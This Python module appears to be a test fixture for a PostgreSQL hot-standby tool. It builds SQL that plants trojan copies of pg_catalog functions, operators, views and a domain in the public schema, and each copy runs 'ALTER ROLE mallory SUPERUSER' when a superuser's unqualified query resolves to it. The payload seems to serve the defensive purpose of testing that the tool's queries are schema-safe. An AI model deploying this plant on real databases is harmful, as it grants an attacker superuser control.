# Copyright (c) 2026, the hotstandby.postgresql authors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What an ordinary user plants for a superuser who trusts the first name that it finds."""

from __future__ import annotations

CAUGHT = "mallory was run by"
TRAP = f"RAISE LOG '{CAUGHT} %', current_user; ALTER ROLE mallory SUPERUSER"
QUOTED_TRAP = TRAP.replace("'", "''").replace("%", "%%")
# Every function of PostgreSQL whose name a query of ours might use, once more, for everybody who looks there first.
PLANT = f"""
DO $do$
DECLARE f record;
BEGIN
  FOR f IN SELECT p.proname, pg_get_function_identity_arguments(p.oid) AS arguments, t.typname
    FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace JOIN pg_type t ON t.oid = p.prorettype
    WHERE n.nspname = 'pg_catalog' AND p.prokind = 'f' AND NOT p.proretset AND t.typtype = 'b'
      AND (p.proname LIKE 'pg\\_%'
      OR p.proname IN ('lower', 'now', 'host', 'current_setting', 'set_config', 'to_regclass', 'clock_timestamp',
        'has_function_privilege', 'date_part', 'extract', 'concat', 'format_type', 'array_length'))
  LOOP
    BEGIN
      EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS pg_catalog.%I LANGUAGE plpgsql AS $f$'
        'BEGIN {QUOTED_TRAP}; RETURN NULL; END $f$', f.proname, f.arguments, f.typname);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $do$
"""
MORE = (
    f"CREATE FUNCTION public.trap() RETURNS boolean LANGUAGE plpgsql AS $f$BEGIN {TRAP}; RETURN true; END $f$",
    *(
        f"CREATE FUNCTION public.{name}({arguments}) RETURNS boolean LANGUAGE sql AS 'SELECT public.trap()'"
        for name, arguments in (
            ("has_function_privilege", "text, text, text"),
            ("pg_has_role", "text, text, text"),
            ("same", "text, text"),
            ("same", "name, text"),
        )
    ),
    *(
        f"CREATE OPERATOR public.{operator} (LEFTARG = {left}, RIGHTARG = text, FUNCTION = public.same)"
        for operator in ("=", "<>")
        for left in ("text", "name")
    ),
    *(
        f"CREATE VIEW public.{view} AS SELECT * FROM pg_catalog.{view} WHERE public.trap()"
        for view in ("pg_settings", "pg_stat_replication", "pg_stat_wal_receiver", "pg_tablespace", "pg_roles")
    ),
    "CREATE DOMAIN public.timestamptz AS pg_catalog.timestamptz CHECK (public.trap())",
)
